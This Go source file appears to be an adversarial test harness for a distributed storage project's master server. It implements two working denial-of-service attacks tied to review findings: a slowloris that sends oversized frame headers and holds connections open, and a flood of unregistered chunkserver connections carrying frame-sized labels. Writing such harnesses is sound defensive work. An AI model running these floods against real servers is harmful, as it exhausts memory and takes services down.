package adversary

import (
	"context"
	"encoding/binary"
	"strings"
	"sync"
	"time"

	"github.com/mfs-election/mfs-election/pkg/protocol"
	"github.com/mfs-election/mfs-election/pkg/wire"
	"github.com/mfs-election/mfs-election/pkg/wire/frame"
)

// SlowLoris opens Conns client connections (port 9421, no credentials
// needed), sends a hello, then a frame header claiming Claim bytes followed
// by Body bytes of it, never the rest, and holds every connection open
// until Hold has passed since it started (review M1, E4). Today the master allocates the whole claimed body
// for each header at once and never times the read out.
type SlowLoris struct {
	Target
	Conns int
	Claim uint32    // the length field (type plus body); 0: frame.DefaultMaxFrame
	Body  int       // body bytes actually sent (at most Claim-2)
	Type  wire.Type // 0: ClientRead, which the port accepts
	Hold  time.Duration
	// Sent, when set, receives one value once every connection has sent
	// what it will send (or failed): the attack is then at its peak.
	Sent chan<- struct{}
}

// LorisResult counts the connections.
type LorisResult struct {
	Opened   int // hello exchanged
	Complete int // header and all Body bytes written
	Cut      int // ended by the master before Hold was over
	Bytes    int64
}

// Run opens every connection and sends every header first (each header
// alone made the master allocate the whole claimed body), then the
// bodies, holds the connections for Hold, and closes them all.
func (s SlowLoris) Run(ctx context.Context) (LorisResult, error) {
	claim := s.Claim
	if claim == 0 {
		claim = frame.DefaultMaxFrame
	}
	typ := s.Type
	if typ == 0 {
		typ = wire.TypeClientRead
	}
	body := min(s.Body, int(claim)-2)
	hdr := make([]byte, frame.HeaderLen)
	binary.BigEndian.PutUint32(hdr[0:4], claim)
	binary.BigEndian.PutUint16(hdr[4:6], uint16(typ))
	chunk := make([]byte, 64<<10)
	for i := range chunk {
		chunk[i] = 0xc0 // msgpack nil, over and over
	}
	var (
		mu      sync.Mutex
		r       LorisResult
		wg      sync.WaitGroup
		headers sync.WaitGroup // every connection opened and its header sent (or failed)
		sentWG  sync.WaitGroup // every body sent (or failed)
		holdEnd = time.Now().Add(s.Hold)
	)
	headers.Add(s.Conns)
	sentWG.Add(s.Conns)
	for i := 0; i < s.Conns; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			headerDone, bodyDone := sync.OnceFunc(headers.Done), sync.OnceFunc(sentWG.Done)
			defer headerDone()
			defer bodyDone()
			c, err := Open(ctx, s.Target, frame.Hello{Kind: frame.KindClient})
			if err != nil {
				return
			}
			defer c.Close()
			mu.Lock()
			r.Opened++
			mu.Unlock()
			ok := c.Write(hdr) == nil
			headerDone()
			if !ok {
				return
			}
			headers.Wait() // every header is in before any body
			c.timeout = 5 * time.Second
			n := 0
			for n < body && ctx.Err() == nil {
				k := min(len(chunk), body-n)
				if c.Write(chunk[:k]) != nil {
					break
				}
				n += k
			}
			mu.Lock()
			r.Bytes += int64(n)
			if n == body {
				r.Complete++
			}
			mu.Unlock()
			bodyDone()
			// Hold: the master has nothing to say until the frame is
			// complete; any read result but a timeout means it cut us.
			for time.Now().Before(holdEnd) && ctx.Err() == nil {
				_, err := c.Skip(min(200*time.Millisecond, time.Until(holdEnd)+time.Millisecond))
				if err != nil && Closed(err) {
					mu.Lock()
					r.Cut++
					mu.Unlock()
					return
				}
			}
		}()
	}
	if s.Sent != nil {
		go func() {
			sentWG.Wait()
			s.Sent <- struct{}{}
		}()
	}
	wg.Wait()
	return r, nil
}

// CSInfoFlood connects Conns times to a master's 9420, each time with a new
// unregistered hello id (FirstID, FirstID+1, ...), sends one CSInfo whose
// Labels fill a whole frame, and leaves (review M1, E7). Today the master
// keeps every one of them for good.
type CSInfoFlood struct {
	Target
	Conns   int
	FirstID wire.CSID
	// Size is the length of Labels (0: just under a whole frame).
	Size int
	// Parallel connections at a time (0: 4).
	Parallel int
}

// CSInfoResult counts the connections.
type CSInfoResult struct {
	Opened     int // hello exchanged and the challenge answered
	Challenged int
	Sent       int // CSInfo written whole
	Bytes      int64
}

// Run sends the frames and returns when every connection is closed.
func (f CSInfoFlood) Run(ctx context.Context) (CSInfoResult, error) {
	size := f.Size
	if size <= 0 {
		size = frame.DefaultMaxFrame - 256
	}
	labels := strings.Repeat("A", size)
	par := f.Parallel
	if par <= 0 {
		par = 4
	}
	var (
		mu  sync.Mutex
		r   CSInfoResult
		wg  sync.WaitGroup
		sem = make(chan struct{}, par)
	)
	for i := 0; i < f.Conns && ctx.Err() == nil; i++ {
		id := f.FirstID + wire.CSID(i)
		sem <- struct{}{}
		wg.Add(1)
		go func() {
			defer wg.Done()
			defer func() { <-sem }()
			c, challenged, err := OpenCS(ctx, f.Target, id)
			if err != nil {
				return
			}
			defer c.Close()
			mu.Lock()
			r.Opened++
			if challenged {
				r.Challenged++
			}
			mu.Unlock()
			b, err := frame.Encode(protocol.CSInfo{ID: id, Addr: f.Bind, Port: 9422, Labels: labels, Version: "0.3.0"})
			if err != nil || c.Write(b) != nil {
				return
			}
			mu.Lock()
			r.Sent++
			r.Bytes += int64(len(b))
			mu.Unlock()
			// Let the master read it before the connection goes.
			_, _ = c.Skip(100 * time.Millisecond)
		}()
	}
	wg.Wait()
	return r, nil
}
